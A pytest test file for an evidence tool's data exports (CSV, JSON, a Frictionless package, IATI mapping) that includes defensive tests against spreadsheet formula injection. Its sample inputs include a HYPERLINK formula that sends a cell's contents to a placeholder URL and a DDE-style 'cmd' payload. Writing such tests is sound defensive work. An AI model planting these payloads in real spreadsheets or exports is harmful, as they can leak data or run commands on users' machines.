"""Data downloads: CSV and JSON per collection, a valid Frictionless package, IATI mapping."""

from __future__ import annotations

import csv
import html
import io
import json
from pathlib import Path

import pytest
import yaml
from frictionless import Package, validate
from helpers import FIXTURES, evidence_cli

from macros.evidence import load_evidence
from macros.export.data import export_files
from macros.render.context import Edition, ViewContext
from macros.render.views.living import LivingPages


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("data")
    result = evidence_cli(FIXTURES / "mini", "export", "-o", str(out))
    assert result.returncode == 0, result.stdout + result.stderr
    return out


def record_files(collection: str) -> list[Path]:
    return sorted((FIXTURES / "mini" / "evidence" / collection).glob("*.yaml"))


def test_every_collection_as_csv_and_json_with_one_row_per_record(exported: Path) -> None:
    for folder in sorted((FIXTURES / "mini" / "evidence").iterdir()):
        if not folder.is_dir():
            continue
        ids = [p.stem for p in record_files(folder.name)]
        with (exported / f"{folder.name}.csv").open(encoding="utf-8-sig") as f:
            rows = list(csv.DictReader(f))
        assert [r["id"] for r in rows] == ids
        data = json.loads((exported / f"{folder.name}.json").read_text())
        assert [d["id"] for d in data] == ids


def test_csv_cells_hold_lists_and_nested_fields_as_json(exported: Path) -> None:
    with (exported / "activities.csv").open(encoding="utf-8-sig") as f:
        row = next(csv.DictReader(f))
    # What tests/fixtures/mini/evidence/activities/project-x.yaml says, written by hand.
    assert json.loads(row["participants"]) == [
        {"organisation": "donor-b", "role": "funding"},
        {"organisation": "agency-a", "role": "implementing"}]
    assert json.loads(row["countries"]) == ["CO", "EC"]
    assert json.loads(row["sources"]) == [{"key": "doc-a", "locator": "sec. 4"}]
    assert json.loads(row["period"]) == {"start": 2019, "end": 2023, "ongoing": False}
    assert row["acronym"] == "" and json.loads(row["results"]) == []


def test_datapackage_is_valid_frictionless(exported: Path) -> None:
    report = validate(str(exported / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])
    package = Package(str(exported / "datapackage.json"))
    collections = {p.name for p in (FIXTURES / "mini" / "evidence").iterdir() if p.is_dir()}
    names = {r.name for r in package.resources}
    assert collections <= names
    for resource in package.resources:  # the others: links between records
        if resource.name not in collections:
            assert resource.name.split("-")[0] in {c.split("-")[0] for c in collections}
            assert resource.schema.foreign_keys, resource.name


def test_activities_mapped_to_iati_fields(exported: Path) -> None:
    (activity,) = json.loads((exported / "activities-iati.json").read_text())
    assert activity["identifier"] == "project-x"
    assert activity["participating-org"] == [
        {"ref": "donor-b", "narrative": "Donor B", "role": "1"},
        {"ref": "agency-a", "narrative": "Agency A", "role": "4"}]
    assert activity["activity-status"] == "2"  # implementation
    assert activity["activity-date"] == [{"type": "start", "year": 2019},
                                         {"type": "end", "year": 2023}]
    assert activity["recipient-country"] == [{"code": "CO"}, {"code": "EC"}]
    assert activity["sector"][0]["code"] == "15190"  # a border-management activity
    assert activity["budget"] == [{"value": 25000000.0, "currency": "USD",
                                   "provider-org": "donor-b"}]


def test_export_of_invalid_evidence_fails_without_writing(mini: Path, tmp_path: Path) -> None:
    (mini / "evidence" / "activities" / "project-x.yaml").write_text("id: project-x\n")
    out = tmp_path / "out"
    result = evidence_cli(mini, "export", "-o", str(out))
    assert result.returncode == 1
    assert "required field is missing" in result.stdout
    assert not out.exists()


# ---------------------------------------------------------------------------------------------
# Spreadsheet formulas (OWASP "CSV Injection"): text that a spreadsheet would run as a formula
# is written with one leading single quote; removing it gives the original text back.

FORMULA_TITLES = [
    '=HYPERLINK("http://x?"&B2,"source")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
    "=1", "-", "@", "'starts with a quote", "''two quotes", "＝1", "＋1", "－1", "＠SUM(A1)",
    "a;=1+1", 'He said "=1", then left', "plain title", "2024 in numbers", "−2 (a minus sign)",
]
FIGURE_VALUES = [-2.5, -16000, 0, 0.5, -0.001, 3]
# What a spreadsheet reads as the start of a formula (OWASP's list), and the full-width signs.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def original_text(written: str) -> str:
    """The documented reversal: remove one leading single quote."""
    return written[1:] if written.startswith("'") else written


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def write_figures(project: Path, titles: list[str]) -> dict[str, dict[str, object]]:
    """One figure per title, with a unit, a measure and a value that may be negative."""
    written = {}
    for i, title in enumerate(titles):
        data = {"id": f"hostile-{i}", "title": title, "value": FIGURE_VALUES[i % 6],
                "unit": title, "measure": f"{title} measured", "notes": [title, "second"],
                "sources": [{"key": "doc-a", "locator": title}],
                "last_reviewed": "2026-01-15"}
        text = yaml.safe_dump(data, allow_unicode=True)
        (project / "evidence" / "figures" / f"hostile-{i}.yaml").write_text(text, "utf-8")
        written[data["id"]] = yaml.safe_load(text)  # what the file says, read independently
    return written


def test_text_that_could_be_a_formula_gets_one_quote_and_reads_back(mini: Path,
                                                                   tmp_path: Path) -> None:
    expected = write_figures(mini, FORMULA_TITLES)
    result = evidence_cli(mini, "export", "-o", str(tmp_path / "data"))
    assert result.returncode == 0, result.stdout + result.stderr
    rows = {r["id"]: r for r in read_csv(tmp_path / "data" / "figures.csv")}
    for ident, data in expected.items():
        row = rows[ident]
        title = str(data["title"])
        for name in ("title", "unit"):
            assert not row[name].startswith(FORMULA_START), (name, row[name])
            assert original_text(row[name]) == title, name
            # Exactly one quote more, and only where the text needs it.
            assert row[name] == ("'" + title if title.startswith((*FORMULA_START, "'"))
                                 else title)
        assert original_text(row["measure"]) == f"{title} measured"
        # A list is JSON: it starts with '[', never a formula, and holds the text unchanged.
        assert json.loads(row["notes"]) == [title, "second"]
        assert json.loads(row["sources"]) == [{"key": "doc-a", "locator": title}]
        # A number stays a number, negative or not: no quote, and the same value.
        assert float(row["value"]) == data["value"]
    text = (tmp_path / "data" / "figures.csv").read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://x?""&B2,""source"")"' in text  # quoted, then doubled quotes
    assert ',-2.5,' in text and ',-16000,' in text  # bare numbers, as a spreadsheet reads them
    assert "'-2.5" not in text and '"-2.5"' not in text


def test_every_text_cell_is_quoted_so_no_separator_starts_a_cell(mini: Path,
                                                                 tmp_path: Path) -> None:
    write_figures(mini, ["a;=1+1", "b\t=1", "c,=1"])
    evidence_cli(mini, "export", "-o", str(tmp_path / "data"))
    for path in sorted((tmp_path / "data").glob("*.csv")):
        with path.open(newline="", encoding="utf-8-sig") as f:
            header = next(csv.reader(f))
        types = {fd["name"]: fd["type"] for r in json.loads(
            (tmp_path / "data" / "datapackage.json").read_text())["resources"]
            if r["path"] == path.name for fd in r["schema"]["fields"]}
        for line in path.read_text(encoding="utf-8").splitlines()[1:]:
            # Read the line by hand: a quoted cell, or a bare number (or nothing).
            cells = csv_cells_by_hand(line)
            assert len(cells) == len(header), (path.name, line)
            for name, (quoted, value) in zip(header, cells, strict=True):
                if types[name] in ("number", "integer"):
                    assert not quoted, name
                    if value:
                        float(value)  # a number, as written
                else:
                    assert quoted, (path.name, name, value)


def csv_cells_by_hand(line: str) -> list[tuple[bool, str]]:
    """RFC 4180 cells of one line (no quoted line breaks in these files): (quoted, text)."""
    cells, i = [], 0
    while True:
        if line.startswith('"', i):
            end = i + 1
            while True:
                end = line.index('"', end)
                if line.startswith('""', end):
                    end += 2
                    continue
                break
            cells.append((True, line[i + 1:end].replace('""', '"')))
            i = end + 1
        else:
            end = line.find(",", i)
            end = len(line) if end < 0 else end
            cells.append((False, line[i:end]))
            i = end
        if i >= len(line):
            return cells
        assert line[i] == ",", line
        i += 1


@pytest.mark.parametrize("title", ["\t=1", "\r=1", "\n=1", "\t", "\r\n@x", " =1", "\u3000=1"])
def test_leading_control_characters_are_neutralised_too(title: str, mini: Path) -> None:
    """Record text is stripped by the model, so a tab or CR only reaches the writer through a
    future field that keeps it: the writer must not rely on the model."""
    evidence = load_evidence(mini)
    figure = evidence.records["figures"]["figure-f"]
    evidence.records["figures"]["figure-f"] = figure.model_copy(update={"title": title})
    text = export_files(evidence)["figures.csv"]
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert original_text(row["title"]) == title
    if title.startswith(("\t", "\r", "\n")):
        assert row["title"] == "'" + title
    else:  # a space first is text in every spreadsheet: nothing added
        assert row["title"] == title


def test_the_rule_is_in_the_data_dictionary(exported: Path) -> None:
    package = json.loads((exported / "datapackage.json").read_text(encoding="utf-8"))
    rule = package["description"]
    for words in ("=, +, -, @", "single quote", "remove that one leading single quote",
                  "Numbers", "negative"):
        assert words in rule, words
    evidence = load_evidence(FIXTURES / "mini")
    page = LivingPages(ViewContext(evidence, edition=Edition()), None,
                       downloads=["figures.csv"]).data_page()
    assert html.escape(rule) in page
